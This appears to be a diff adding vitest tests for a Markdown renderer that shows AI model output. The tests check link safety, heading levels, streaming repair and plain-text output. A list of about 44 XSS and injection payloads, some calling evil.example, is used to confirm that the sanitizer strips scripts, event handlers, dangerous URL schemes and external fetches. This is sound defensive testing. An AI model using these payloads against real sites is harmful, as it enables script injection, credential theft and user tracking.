@@ -1,0 +1,142 @@
+import { describe, expect, test } from "vitest";
+import { markdown, mended, plain } from "./markdown.ts";
+
+function html(text: string): string {
+  const place = document.createElement("div");
+  place.append(markdown(text));
+  return place.innerHTML;
+}
+
+describe("what a model may say", () => {
+  test("is Markdown", () => {
+    expect(html("**Up** and *down*\n\n- one\n- `two`")).toBe(
+      "<p><strong>Up</strong> and <em>down</em></p><ul>\n<li>one</li>\n<li><code>two</code></li>\n</ul>",
+    );
+    expect(html("| a | b |\n|--|--|\n| 1 | 2 |")).toContain("<td>1</td>");
+  });
+
+  test("has its headings below the page's own", () => {
+    expect(html("# One\n\n###### Six")).toBe("<h3>One</h3><h6>Six</h6>");
+  });
+
+  test("shows where a link leads and tells the other site nothing", () => {
+    expect(html("[annual report](https://example.com/a?b=1&c=2)")).toBe(
+      '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow ugc" target="_blank">' +
+        'annual report</a><span class="leads-to"> (example.com)</span></p>',
+    );
+    expect(html("https://example.com/a")).not.toContain("leads-to");
+    expect(html("[https://bank.example](https://evil.example/)")).toContain("(evil.example)");
+  });
+});
+
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  "a <script src=https://evil.example/x.js></script> b",
+  "<img src=x onerror=alert(1)>",
+  "![beacon](https://evil.example/pixel.png)",
+  '![x](https://evil.example/a.png "t\\" onerror=alert(1)")',
+  "![r][ref]\n\n[ref]: https://evil.example/pixel.png",
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt:alert(1))",
+  "[click](java&#10;script:alert(1))",
+  "[click](&#x6A;avascript:alert(1))",
+  "<javascript:alert(1)>",
+  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[click](vbscript:msgbox(1))",
+  "[click](blob:https://example.com/x)",
+  "[click](file:///etc/passwd)",
+  "[click](/accounts/logout/)",
+  "[click](//evil.example/)",
+  '[a](https://evil.example/" onmouseover="alert(1))',
+  "<svg onload=alert(1)><circle/></svg>",
+  "<svg><use href='https://evil.example/x.svg#y'/></svg>",
+  "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+  "<base href='https://evil.example/'>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<style>body{background:url(https://evil.example/)}</style>",
+  "<p style='background:url(https://evil.example/)'>x</p>",
+  "<iframe src=https://evil.example/></iframe>",
+  "<object data=https://evil.example/></object>",
+  "<embed src=https://evil.example/>",
+  "<video src=https://evil.example/ autoplay></video>",
+  "<audio src=https://evil.example/ autoplay></audio>",
+  "<form action=https://evil.example/><input name=password><button>go</button></form>",
+  "<div id=main class=masthead data-testid=verdict>x</div>",
+  "<outcry-debate></outcry-debate>",
+  "<details open ontoggle=alert(1)>",
+  "<a href=https://evil.example/ ping=https://evil.example/>x</a>",
+  "```html\n<script>alert(1)</script>\n```",
+  "`<img src=x onerror=alert(1)>`",
+  "| <img src=x onerror=alert(1)> |\n|--|\n| <script>1</script> |",
+  "# <img src=x onerror=alert(1)>",
+  "- [ ] <input onfocus=alert(1) autofocus>",
+  "<!-- <img src=x onerror=alert(1)> -->",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "```\" onmouseover=\"alert(1)\nx\n```",
+];
+
+const ELEMENTS = new Set(
+  "p br strong em del code pre blockquote ul ol li h3 h4 h5 h6 hr a table thead tbody tr th td span".split(" "),
+);
+
+describe.each(HOSTILE)("hostile: %s", (text) => {
+  test("leaves nothing that acts or asks for anything", () => {
+    const fragment = markdown(text);
+    for (const element of fragment.querySelectorAll("*")) {
+      const name = element.localName;
+      expect(ELEMENTS).toContain(name);
+      for (const attribute of element.attributes) {
+        if (name === "a") {
+          expect(["href", "rel", "target"]).toContain(attribute.name);
+        } else {
+          expect([name, attribute.name, attribute.value]).toEqual(["span", "class", "leads-to"]);
+        }
+      }
+      if (name === "a") {
+        expect(element.getAttribute("href")).toMatch(/^https?:\/\//);
+        expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
+      }
+    }
+  });
+});
+
+test("raw HTML is shown as what it is", () => {
+  expect(markdown("<b>bold</b> move").textContent).toBe("<b>bold</b> move");
+  expect(markdown("<script>alert(1)</script>").textContent).toBe("<script>alert(1)</script>");
+});
+
+test("a picture is named, and leads where it lies, but is not fetched", () => {
+  expect(markdown("![chart](https://example.com/c.png)").textContent).toBe("[image: chart] (example.com)");
+});
+
+describe("while it streams", () => {
+  test.each([
+    ["**Margins he", "**Margins he**"],
+    ["**Margins** and *ca", "**Margins** and *ca*"],
+    ["**Margins held*", "**Margins held**"],
+    ["The **", "The "],
+    ["`0.9", "`0.9`"],
+    ["`a*b", "`a*b`"],
+    ["see [the rep", "see the rep"],
+    ["see [the report](https://exa", "see the report"],
+    ["see [the report](https://example.com/)", "see [the report](https://example.com/)"],
+    ["* item one\n* item tw", "* item one\n* item tw"],
+    ["2 * 3 is 6", "2 * 3 is 6"],
+    ["- a **b\n- c**", "- a **b\n- c**"],
+    ["A paragraph\n-", "A paragraph\n"],
+    ["A paragraph\n---", "A paragraph\n"],
+    ["One **done**.\n\nTwo *op", "One **done**.\n\nTwo *op*"],
+    ["One *left open.\n\nTwo", "One *left open.\n\nTwo"],
+    ["```\nx = **y", "```\nx = **y"],
+    ["plain", "plain"],
+    ["", ""],
+  ])("%j reads as %j", (text, expected) => {
+    expect(mended(text)).toBe(expected);
+  });
+});
+
+test("a voice reads the words without their marks", () => {
+  expect(plain("**Up**,\n\n- one\n- [two](https://example.com)")).toContain("Up");
+  expect(plain("**Up** `now`")).toBe("Up now");
+});
